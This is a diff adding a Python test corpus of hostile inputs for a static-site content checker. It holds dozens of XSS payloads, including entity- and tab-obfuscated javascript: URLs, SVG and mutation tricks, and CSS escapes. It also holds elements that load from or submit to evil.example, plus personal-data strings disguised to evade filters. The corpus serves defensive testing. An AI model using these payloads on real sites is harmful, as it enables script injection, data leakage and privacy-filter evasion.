@@ -1,0 +1,125 @@
+"""The hostile-input corpus: what a proposal or a data file could hold to attack a reader.
+
+Each case is refused by the content check (scripts/lint.py) with a French `file:line` message, or
+neutralised in the built page (checked in Chromium by tests/test_hostile.py: no dialog, no request
+off 127.0.0.1, no event attribute or script address in the page, no Content-Security-Policy
+violation, the payload shown as text or gone). Many are both.
+
+Every payload carries the word XSSMARK, so that the pages it reached can be found in the build.
+The cases on the fields of front matter and data files are made from the JSON Schemas themselves
+(soignants/schemas/): a field added to a schema is attacked too.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+import json
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+SCHEMAS = ROOT / "soignants" / "schemas"
+
+# --- payloads -----------------------------------------------------------------------------------
+
+# Raw HTML and Markdown in a page's body: refused by the check (code) and removed by the build.
+BODY = [
+    ("script", '<script>alert("XSSMARK")</script>', "html-dangereux"),
+    ("img-onerror", '<img src="x.png" onerror="alert(\'XSSMARK\')">', "html-dangereux"),
+    ("svg-onload", '<svg onload="alert(\'XSSMARK\')"><circle r="1"/></svg>', "html-dangereux"),
+    ("svg-script", '<svg><script>alert("XSSMARK")</script></svg>', "html-dangereux"),
+    ("svg-xlink", '<svg><a xlink:href="javascript:alert(\'XSSMARK\')"><text>XSSMARK</text></a></svg>',
+     "html-dangereux"),
+    ("comment-closes-early", '<!--><img src="x.png" onerror="alert(\'XSSMARK\')">-->', "html-dangereux"),
+    ("comment-bang", '<!-- x --!><img src="x.png" onerror="alert(\'XSSMARK\')">', "html-dangereux"),
+    ("entity-javascript", '<a href="&#106;avascript:alert(\'XSSMARK\')">XSSMARK</a>', "html-dangereux"),
+    ("hex-entity-javascript", '<a href="jav&#x61;script:alert(\'XSSMARK\')">XSSMARK</a>', "html-dangereux"),
+    ("tab-javascript", '<a href="java\tscript:alert(\'XSSMARK\')">XSSMARK</a>', "html-dangereux"),
+    ("markdown-javascript", "[XSSMARK](javascript:alert('XSSMARK'))", "html-dangereux"),
+    ("markdown-entity-javascript", "[XSSMARK](&#106;avascript:alert('XSSMARK'))", "html-dangereux"),
+    ("reference-javascript", "[XSSMARK][x]\n\n[x]: javascript:alert('XSSMARK')", "html-dangereux"),
+    ("data-html", '<a href="data:text/html,<script>alert(\'XSSMARK\')</script>">XSSMARK</a>', "html-dangereux"),
+    ("iframe", '<iframe src="https://evil.example/XSSMARK"></iframe>', "html-dangereux"),
+    ("object", '<object data="https://evil.example/XSSMARK.swf"></object>', "html-dangereux"),
+    ("embed", '<embed src="https://evil.example/XSSMARK.swf">', "html-dangereux"),
+    ("form-action", '<form action="https://evil.example/XSSMARK"><input name="q"><button>XSSMARK</button></form>',
+     "html-dangereux"),
+    ("base", '<base href="https://evil.example/XSSMARK/">', "html-dangereux"),
+    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/XSSMARK">', "html-dangereux"),
+    ("style-import", '<style>@import url("https://evil.example/XSSMARK.css");</style>', "html-dangereux"),
+    ("style-css-escape", '<style>p { background: \\75 rl(//evil.example/XSSMARK.png) }</style>', "html-dangereux"),
+    ("style-attribute-escape", '<p style="background:u\\72l(//evil.example/XSSMARK.png)">XSSMARK</p>',
+     "html-dangereux"),
+    ("link-data-stylesheet", '<link rel="stylesheet" href="data:text/css,body{background:url(//evil.example/XSSMARK)}">',
+     "html-dangereux"),
+    ("ping", '<a href="#ici" ping="https://evil.example/XSSMARK">XSSMARK</a>', "html-dangereux"),
+    ("details-ontoggle", '<details open ontoggle="alert(\'XSSMARK\')"><summary>XSSMARK</summary></details>',
+     "html-dangereux"),
+    ("mutation-math", '<math><mtext><table><mglyph><style><img src="x.png" onerror="alert(\'XSSMARK\')">',
+     "html-dangereux"),
+    ("img-external", '<img src="https://evil.example/XSSMARK.png" alt="XSSMARK">', "ressource-externe"),
+    ("img-protocol-relative", '<img src="//evil.example/XSSMARK.png" alt="XSSMARK">', "ressource-externe"),
+    ("markdown-image-external", "![XSSMARK](https://evil.example/XSSMARK.png)", "ressource-externe"),
+    ("audio-external", '<audio src="https://evil.example/XSSMARK.mp3" controls></audio>', "ressource-externe"),
+    ("video-poster", '<video poster="https://evil.example/XSSMARK.png"></video>', "html-dangereux"),
+    ("srcset", '<img src="a.png" srcset="https://evil.example/XSSMARK.png 2x" alt="XSSMARK">', "html-dangereux"),
+    ("attr-list-onclick", "XSSMARK paragraphe\n{: onclick=\"alert('XSSMARK')\" }", "html-dangereux"),
+    ("input-image", '<input type="image" src="https://evil.example/XSSMARK.png">', "html-dangereux"),
+    ("button-formaction", '<button formaction="https://evil.example/XSSMARK">XSSMARK</button>', "html-dangereux"),
+]
+
+# A value of a front-matter or data-file field: text, so escaped where it lands.
+FIELD_PAYLOAD = "XSSMARK <img src=x onerror=alert(1)> \"><script>alert(1)</script> [l](javascript:alert(1)) *x*"
+URL_PAYLOAD = "javascript:alert('XSSMARK')"
+
+# Personal data in a testimony, spelled to get past a naive pattern (refused: donnee-personnelle).
+PERSONAL = [
+    ("phone-zero-width", "Il m'a donné son numéro, le 06\u200b12\u200b34\u200b56\u200b78."),
+    ("phone-dots", "Son portable : 06.12.34.56.78."),
+    ("phone-international", "Joignable au +33 (0)6 12 34 56 78."),
+    ("phone-0033", "Joignable au 0033 6 12 34 56 78."),
+    ("phone-fullwidth", "Au ０６ １２ ３４ ５６ ７８, le soir."),
+    ("email-fullwidth-at", "Écrivez-lui : jean.dupont＠exemple.fr"),
+    ("email-obfuscated", "Écrivez-lui : jean.dupont (at) exemple (point) fr"),
+    ("nir", "Son numéro de sécurité sociale, 1 85 05 78 006 084 36, était sur la feuille."),
+    ("street", "Le cabinet, 12 rue des Lilas, était vide."),
+    ("postcode-town", "Installé à 13400 Aubagne depuis dix ans."),
+    ("named-doctor", "Le Dr Martin m'a appelé le lendemain."),
+    ("named-madame", "Madame Durand est venue me voir."),
+]
+
+
+# --- the fields of the schemas -----------------------------------------------------------------
+
+def _resolve(schema: dict, root: dict) -> dict:
+    while "$ref" in schema:
+        name = schema["$ref"].split("/")[-1]
+        schema = root.get("$defs", {}).get(name, {})
+    return schema
+
+
+def text_fields(schema: dict, root: dict | None = None, path: tuple = ()) -> list[tuple]:
+    """Paths of the string fields a contributor writes freely (no enum, pattern, format)."""
+    root = root or schema
+    schema = _resolve(schema, root)
+    kind = schema.get("type")
+    if kind == "string":
+        return [] if any(k in schema for k in ("enum", "format", "pattern", "const")) else [path]
+    if kind == "array" and isinstance(schema.get("items"), dict):
+        return text_fields(schema["items"], root, path + (0,))
+    found = []
+    for name, sub in schema.get("properties", {}).items():
+        found += text_fields(sub, root, path + (name,))
+    return found
+
+
+def schema(name: str) -> dict:
+    return json.loads((SCHEMAS / f"{name}.schema.json").read_text(encoding="utf-8"))
+
+
+@dataclass
+class Case:
+    ident: str
+    kind: str
+    payload: str = ""
+    code: str | None = None  # the content check refuses it with this code (or None: neutralised only)
+    path: tuple = field(default_factory=tuple)
